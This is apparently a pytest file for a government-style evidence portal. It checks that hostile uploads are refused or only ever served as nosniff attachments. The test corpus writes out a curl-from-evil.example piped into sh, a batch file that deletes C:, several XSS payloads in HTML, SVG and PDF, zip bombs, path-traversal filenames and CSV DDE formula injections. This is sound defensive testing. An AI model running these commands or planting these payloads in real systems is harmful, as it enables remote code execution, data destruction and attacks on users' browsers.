"""Hostile files uploaded as the DCC: each is refused with a message and leaves nothing behind, or is accepted
as one of the evidence types and then only ever downloads as an attachment the browser will not sniff."""
from __future__ import annotations

import html
import io
import zipfile

import pytest
from werkzeug.http import parse_options_header

from portal.access import Role
from portal.criteria import filetypes
from portal.releases.models import Stage
from tests.test_evidence_upload import PDF, events, files, stored_files, upload, url

ACCEPTED_MIMES = {t.mime for t in vars(filetypes).values() if isinstance(t, filetypes.FileType)}
NOT_A_TYPE = "not a type the portal accepts"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"PE\x00\x00"
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24
FAT_MACHO = b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + b"\x00" * 24
SHELL = b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 17
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 20


def zipped(members: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


EVIL_ZIP = zipped({"evil.exe": PE, "run.sh": SHELL})
ZIP_BOMB = zipped({"zeros.bin": b"\x00" * (8 * 1024 * 1024)})  # ~8 KB that inflates to 8 MB
# An OOXML package whose document part is a bomb: detection reads only the member list, never inflates it.
OFFICE_BOMB = zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": b" " * (8 * 1024 * 1024)})
# What Word saves as .docm: the macro-enabled main part and a VBA project.
DOCM = zipped({"[Content_Types].xml": '<Types><Override PartName="/word/document.xml" '
               'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
               "word/document.xml": "<x/>", "word/vbaProject.bin": b"\xd0\xcf" * 64})
PDF_HTML = b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n"
PDF_JS = PDF.replace(b"<<>>", b"<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", 1)
BIG_TEXT_THEN_SCRIPT = b"a" * 9000 + b"\n<script>alert(1)</script>\n"

# (id, name, content, None if accepted-as-safe else a piece of the refusal message).
# Accepted cases are safe because the stored bytes are only ever served as an attachment of their detected
# type with nosniff, never rendered by the portal; the test below checks exactly that for each one.
CORPUS = [
    # Renamed executables.
    ("elf-as-pdf", "report.pdf", ELF, NOT_A_TYPE),
    ("pe-as-pdf", "report.pdf", PE, NOT_A_TYPE),
    ("pe-as-png", "diagram.png", PE, NOT_A_TYPE),
    ("macho-as-pdf", "report.pdf", MACHO, NOT_A_TYPE),
    ("shell-as-pdf", "report.pdf", SHELL, NOT_A_TYPE),
    ("shell-as-docx", "report.docx", SHELL, NOT_A_TYPE),
    ("batch-as-pdf", "report.pdf", b"@echo off\r\ndel /q C:\\*\r\n", "Rename it to end '.txt'"),
    # Script-free shell commands are just text: stored as text/plain, downloaded, never run.
    # HTML and SVG with script, under many names.
    ("html-as-html", "page.html", HTML, NOT_A_TYPE),
    ("html-as-pdf", "report.pdf", HTML, NOT_A_TYPE),
    ("html-as-png", "diagram.png", HTML, NOT_A_TYPE),
    ("html-as-txt", "notes.txt", HTML, NOT_A_TYPE),
    ("html-bom-whitespace", "notes.md", b"\xef\xbb\xbf  \n<HtMl><ScRiPt>alert(1)</ScRiPt>", NOT_A_TYPE),
    ("html-utf16", "notes.txt", "<html><script>alert(1)</script>".encode("utf-16"), NOT_A_TYPE),
    ("javascript-url", "links.txt", b"click javascript:alert(1)\n", NOT_A_TYPE),
    ("xml-xss", "data.csv", b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml"/>', NOT_A_TYPE),
    ("svg-as-svg", "diagram.svg", SVG, NOT_A_TYPE),
    ("svg-as-png", "diagram.png", SVG, NOT_A_TYPE),
    # Markup past the first 8 KB, or tags without a listed marker, are stored as text/plain: never rendered.
    ("script-after-8k", "long.txt", BIG_TEXT_THEN_SCRIPT, None),
    ("img-onerror-text", "notes.txt", b"see <img src=x onerror=alert(1)>\n", None),
    # Polyglots: accepted only as the type their header proves, served as that type.
    ("pdf-html-polyglot", "report.pdf", PDF_HTML, None),
    ("pdf-html-polyglot-as-html", "report.html", PDF_HTML, "Rename it to end '.pdf'"),
    ("pdf-openaction-js", "report.pdf", PDF_JS, None),
    ("jpeg-plus-zip", "photo.jpg", JPEG + EVIL_ZIP, None),
    ("jpeg-plus-zip-as-zip", "photo.zip", JPEG + EVIL_ZIP, "Rename it to end '.jpg'"),
    ("png-plus-script", "diagram.png", PNG + HTML, None),
    ("gifar", "photo.jpg", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + EVIL_ZIP, NOT_A_TYPE),
    ("content-type-header-lies", "report.pdf", (PDF, "text/html"), None),
    # Zips that are not Office documents, and zip bombs.
    ("zip-of-executables", "report.docx", EVIL_ZIP, NOT_A_TYPE),
    ("zip-bomb", "report.xlsx", ZIP_BOMB, NOT_A_TYPE),
    ("office-part-bomb", "report.docx", OFFICE_BOMB, None),
    ("odf-wrong-mimetype", "report.odt", zipped({"mimetype": "text/html", "content.xml": "<x/>"}), NOT_A_TYPE),
    # Macro-enabled Office files. Decision: accepted as safe when named .docx, refused under their own
    # .docm name. The portal never opens them, serves them as the macro-free OOXML type, and Office
    # will not run a VBA project from a file named .docx (it refuses the macro-enabled content type).
    ("docm-as-docx", "report.docx", DOCM, None),
    ("docm-as-docm", "report.docm", DOCM, "Rename it to end '.docx'"),
    # Names: path parts, control characters, bidi tricks, length.
    ("dotdot-slash", "../../etc/passwd.pdf", PDF, "must not contain folder names"),
    ("absolute-path", "/etc/cron.d/evil.pdf", PDF, "must not contain folder names"),
    # Browsers send backslashes unescaped in the quoted file name, so they never reach the portal as
    # backslashes ("..\\x" arrives as "..x"); sent escaped, they arrive and are refused.
    ("backslashes-as-browsers-send", "..\\..\\Windows\\System32\\evil.pdf", PDF, None),
    ("windows-absolute-as-browsers-send", "C:\\Users\\Public\\evil.pdf", PDF, None),
    ("backslashes-escaped", "..\\\\..\\\\evil.pdf", PDF, "must not contain folder names"),
    ("nul-in-name", "report.pdf\x00.exe", PDF, "control characters"),
    ("escape-in-name", "report\x1b[31m.pdf", PDF, "control characters"),
    ("line-separator", "report\u2028.pdf", PDF, "control characters"),
    ("rtl-override", "invoice\u202efdp.exe", PDF, "control characters"),
    ("zero-width-space", "report\u200b.pdf", PDF, "control characters"),
    ("over-long-name", "a" * 300 + ".pdf", PDF, "200 characters or fewer"),
    ("trailing-dot", "report.pdf.", PDF, "has no extension"),
    ("percent-encoded-slash", "..%2F..%2Fetc%2Fpasswd.pdf", PDF, None),
    ("quote-semicolon", "a'b; filename=evil.exe.pdf", PDF, None),
    ("longest-allowed", "b" * 196 + ".pdf", PDF, None),
    # Empty files.
    ("empty-pdf", "empty.pdf", b"", "empty"),
    ("empty-txt", "empty.txt", b"", "empty"),
    # CSV formula injection. Decision: accepted (evidence is kept byte for byte, its hash is signed); it is
    # served only as a text/csv attachment with nosniff, and the portal never renders its cells.
    ("csv-dde-cmd", "data.csv", b"name,value\n=cmd|' /C calc'!A0,1\n", None),
    ("csv-plus-minus-at", "data.csv", b"+1+cmd|' /C calc'!A0\n-2+3\n@SUM(1+1)*cmd|' /C calc'!A0\n", None),
]


@pytest.fixture
def release(make_user, make_release, client):
    """A release taking evidence, with the DCC signed in on `client`."""
    client.login(make_user(Role.DCC))
    return make_release(Stage.EVIDENCE)


# A file that starts like an OLE document but is shorter than its 512-byte header is refused, not a 500.
TRUNCATED_OLE = pytest.param("report.doc", filetypes.OLE_MAGIC, NOT_A_TYPE, id="truncated-ole-header")


@pytest.mark.parametrize("name,content,refusal", [pytest.param(*c[1:], id=c[0]) for c in CORPUS] + [TRUNCATED_OLE])
def test_hostile_file_is_refused_or_served_safely(app, client, release, name, content, refusal):
    if isinstance(content, tuple):  # the browser's Content-Type for the part is chosen by the uploader
        content, claimed = content
        response = client.post_form(url(release, 1), {"file": (io.BytesIO(content), name, claimed),
                                                      "description": "Hostile file"})
    else:
        response = upload(client, release, 1, content=content, name=name, description="Hostile file")
    if refusal is not None:
        assert response.status_code == 422, response.get_data(as_text=True)[:1000]
        body = html.unescape(response.get_data(as_text=True))
        assert "govuk-error-summary" in body and refusal in body
        assert files(app) == [] and stored_files(app) == [] and events(app, "evidence.") == []
        return
    assert response.status_code == 303, response.get_data(as_text=True)[:1000]
    [row] = files(app)
    assert row.content_type in ACCEPTED_MIMES
    assert row.original_name.isprintable() and not any(ch in row.original_name for ch in "/\\")
    assert len(stored_files(app)) == 1 and events(app, "evidence.") == ["evidence.upload"]
    download = client.get(f"/evidence/{row.id}/download")
    assert download.status_code == 200 and download.data == content
    assert download.mimetype == row.content_type
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    disposition = download.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    kind, params = parse_options_header(disposition)
    assert kind == "attachment" and params["filename"] == row.original_name
    assert not any(ch in disposition for ch in "/\\") and disposition.isprintable()
